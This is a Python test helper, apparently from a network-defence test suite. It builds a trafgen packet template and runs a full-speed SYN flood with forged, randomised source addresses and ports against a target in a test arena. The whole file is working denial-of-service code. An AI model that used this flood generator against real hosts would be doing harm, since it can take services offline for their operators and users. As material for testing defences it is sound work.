"""Forged SYNs, as many as this machine can send, by trafgen of netsniff-ng."""

from __future__ import annotations

import subprocess
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from tests.attacks.arena import Arena

# Addresses of FORGED, with a maximum segment size as its only option.
_PACKET = """{{
  {mac}, 0x02, 0, 0, 0, 0, 1, 0x08, 0x00,
  0x45, 0, c16(44), drnd(2), 0x40, 0, 60, 6, csumip(14, 33), 198, 19, drnd(2), {target},
  drnd(2), c16({port}), drnd(4), 0, 0, 0, 0, 0x60, 0x02, c16(64240), csumtcp(14, 34), 0, 0,
  2, 4, c16(1460)
}}
"""


@contextmanager
def flood(arena: Arena, port: int, seconds: int) -> Iterator[subprocess.Popen[str]]:
    with tempfile.TemporaryDirectory() as place:
        config = Path(place) / "syn.cfg"
        config.write_text(_packet(arena, port))
        command = arena.attacker.command(
            "timeout", str(seconds), "trafgen", "--dev", arena.attacker.interface, "--conf",
            str(config), "--cpus", "1", "--no-sock-mem", "--notouch-irq", "--no-cpu-stats",
        )  # fmt: skip
        process = subprocess.Popen(
            command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
        )
        try:
            yield process
        finally:
            process.terminate()
            process.wait(10)


def _packet(arena: Arena, port: int) -> str:
    mac = ", ".join(f"0x{part}" for part in arena.host_mac.split(":"))
    target = arena.target.replace(".", ", ")
    return _PACKET.format(mac=mac, target=target, port=port)
